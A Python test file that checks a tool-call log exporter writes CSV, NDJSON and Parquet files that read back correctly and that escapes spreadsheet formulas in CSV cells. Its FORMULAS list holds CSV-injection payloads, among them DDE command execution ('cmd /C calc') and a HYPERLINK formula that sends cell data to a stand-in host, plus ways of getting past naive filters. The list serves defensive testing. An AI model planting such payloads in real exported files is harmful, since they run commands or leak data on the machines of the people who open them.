"""The forms of an export, read back with the programs that people use."""

import csv
import gzip
import io
import json
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as parquet
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatebook.index.engine import Engine
from gatebook.index.rows import CallRow
from gatebook.reading.exports_forms import FORMS, columns, embedded, encoder, escape_cell, iso, text_of, to_parquet
from gatebook.reading.exports_rows import COLUMNS, KINDS, TIMES, Loaded
from gatebook.record.views.call import Origin
from tests.index.conftest import full_row

ORIGIN = Origin(deployment="d", version="0")
# What spreadsheets have been made to run, and ways around naive guards.
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "\ufeff=1", "'=1+1", "''=1+1",
    '=HYPERLINK("https://x.example?"&A1,"click")', "=1;=2", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "==1", "-", "=", "@", "+",
    '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
HARMLESS = (
    "",
    "\0=1",
    "a=1",
    "x",
    "1",
    "a\nb",
    'say "hi"',
    "a,b;c\td",
    "it's",
    "'quoted'",
    "\u202eabc",
    "\U0001f4a9",
    "\\N",
    "NULL",
    "a\rb",
    "x" * 40_000,
)


def unescape_cell(text: str) -> str:
    """What a reader gets back who takes off the sign that keeps a spreadsheet from calculating."""
    return text[1:] if text.startswith("'") and escape_cell(text[1:]) == text else text


def calls(texts: tuple[str, ...]) -> list[Loaded]:
    """A call for each text, which stands in every field that others fill, and in both payloads."""
    fields = [name for name, kind in KINDS.items() if kind is str and name not in ("call_id", "status", "stream")]
    return [
        Loaded(
            row=CallRow(
                **{**{name: getattr(full_row(number), name) for name in COLUMNS}, **dict.fromkeys(fields, text), "groups": (text, "b")}
            ),
            parts={"arguments": text.encode(), "response": json.dumps({"a": text}, indent=1).encode()},
        )
        for number, text in enumerate(texts)
    ]


def written(form: str, rows: list[Loaded], *, payloads: bool = True) -> bytes:
    """A whole file."""
    head, encode = encoder(FORMS[form], payloads=payloads, origin=ORIGIN)  # type: ignore[index]
    return head + encode(rows)


def test_a_table_is_read_back_as_it_was() -> None:
    """With the csv module: BOM, CRLF, every cell in quotes; what was marked is unmarked; NUL alone is replaced."""
    texts = FORMULAS + HARMLESS
    data = written("csv", calls(texts))
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(columns(payloads=True)) and len(rows) == len(texts) + 1
    for text, row in zip(texts, rows[1:], strict=True):
        cells = dict(zip(rows[0], row, strict=True))
        assert unescape_cell(cells["tool"]) == unescape_cell(cells["arguments"]) == text.replace("\0", "\ufffd")
        assert unescape_cell(cells["groups"]) == f"{text}; b".replace("\0", "\ufffd")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    """Whatever field it comes in; the mark is an apostrophe, within the quotes."""
    rows = list(csv.reader(io.StringIO(written("csv", calls((text,))).decode("utf-8-sig"), newline="")))
    assert not [cell for cell in rows[1] if cell[:1] in tuple("=+-@\t\r\n") and not cell.lstrip("-").isdigit()]
    assert escape_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_left_alone(text: str) -> None:
    """Also long ones, and those with quotes and line breaks in them."""
    assert escape_cell(text) == text.replace("\0", "\ufffd")


@given(
    st.text(alphabet=st.one_of(st.sampled_from("=+-@'\t\r\n \ufeff\uff1da1\u2028"), st.characters(codec="utf-8", exclude_characters="\0")))
)
def test_the_mark_can_be_taken_away_again(text: str) -> None:
    """Escaping loses nothing, however many marks there were."""
    assert unescape_cell(escape_cell(text)) == text
    assert escape_cell(text)[:1] not in tuple("=+-@\t\r\n")


def test_numbers_are_numbers() -> None:
    """A negative one is not marked: it is ours, not somebody's text."""
    rows = list(csv.DictReader(io.StringIO(written("csv", [Loaded(row=full_row(1, rpc_code=-32603))]).decode("utf-8-sig"), newline="")))
    assert rows[0]["rpc_code"] == "-32603" and rows[0]["is_error"] == "false"


def test_lines_hold_one_call_each() -> None:
    """Hostile text does not break a line; JSON that was sent over several lines stands on one, text that is no JSON is text."""
    texts = FORMULAS + HARMLESS
    data = written("ndjson", calls(texts))
    lines = data.decode().split("\n")
    assert lines.pop() == "" and len(lines) == len(texts)
    for text, line in zip(texts, lines, strict=True):
        found = json.loads(line)
        assert found["tool"] == text and found["response"] == {"a": text}
        assert found["groups"] == [text, "b"] and found["time"] == iso(full_row(texts.index(text)).time)
    assert json.loads(lines[0])["finished"] is None


def test_payloads_that_are_no_json_or_no_text() -> None:
    """Numbers that JSON has and others cannot hold, broken JSON, and bytes."""
    assert bytes(embedded(b'{"n":\n 9223372036854775808}')) == b'{"n":9223372036854775808}'  # type: ignore[arg-type]
    assert embedded(b"{") == "{" and embedded(b"[" * 100_000) == "[" * 100_000
    assert embedded(b'{"a":"\xff"}') == text_of(b'{"a":"\xff"}') == "base64:eyJhIjoi/yJ9"


def test_what_is_missing_is_said() -> None:
    """In the form with payloads: dropped and erased are told apart; without payloads there is no such column."""
    lost = Loaded(row=full_row(1), missing={"arguments": "erased", "response": "dropped"})
    found = json.loads(written("ndjson", [lost]))
    assert (found["arguments"], found["arguments_missing"], found["response_missing"]) == (None, "erased", "dropped")
    assert "arguments" not in json.loads(written("ndjson", [lost], payloads=False))


def test_parquet_is_read_back_with_types(tmp_path: Path) -> None:
    """By a reader that is not ours: times, numbers, flags, lists and texts, also hostile ones."""
    texts = FORMULAS + HARMLESS
    rows = [*calls(texts), Loaded(row=full_row(99, finished=1_793_000_000_000_001, rpc_code=-5, is_error=True, api_statuses=(200, 404)))]
    (tmp_path / "lines.gz").write_bytes(gzip.compress(written("parquet", rows)))
    engine = Engine(tmp_path / "engine")
    try:
        to_parquet(engine, tmp_path / "lines.gz", tmp_path / "calls.parquet", payloads=True)
    finally:
        engine.close()
    table = parquet.read_table(tmp_path / "calls.parquet")
    assert table.column_names == list(columns(payloads=True)) and table.num_rows == len(rows)
    types = {field.name: str(field.type) for field in table.schema}
    assert types["time"] == types["finished"] == "timestamp[us, tz=UTC]"
    assert (types["duration_us"], types["is_error"], types["tool"]) == ("int64", "bool", "string")
    assert types["groups"].startswith("list<") and "string" in types["groups"] and "int64" in types["api_statuses"]
    found: list[dict[str, Any]] = table.to_pylist()
    assert [row["tool"] for row in found[:-1]] == list(texts) and [row["arguments"] for row in found[:-1]] == list(texts)
    assert found[0]["finished"] is None and found[-1]["finished"].microsecond == 1
    assert (found[-1]["rpc_code"], found[-1]["is_error"], found[-1]["api_statuses"]) == (-5, True, [200, 404])


@given(
    row=st.builds(full_row, st.integers(0, 10**9), tool=st.text(), detail=st.text(), groups=st.lists(st.text()).map(tuple)),
    payload=st.binary(),
)
@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow])
def test_every_row_can_be_written(row: Any, payload: bytes) -> None:
    """In every form with lines: one line each, which can be read."""
    call = Loaded(row=row, parts={"arguments": payload})
    assert written("ndjson", [call]).count(b"\n") == written("parquet", [call]).count(b"\n") == 1
    assert msgspec.json.decode(written("parquet", [call]))["groups"] == list(row.groups)
    assert len(list(csv.reader(io.StringIO(written("csv", [call]).decode("utf-8-sig"), newline="")))) == 2


def test_times_are_columns_of_their_own_kind() -> None:
    """The list of them holds what is there."""
    assert set(COLUMNS) > TIMES and iso(0) == ""
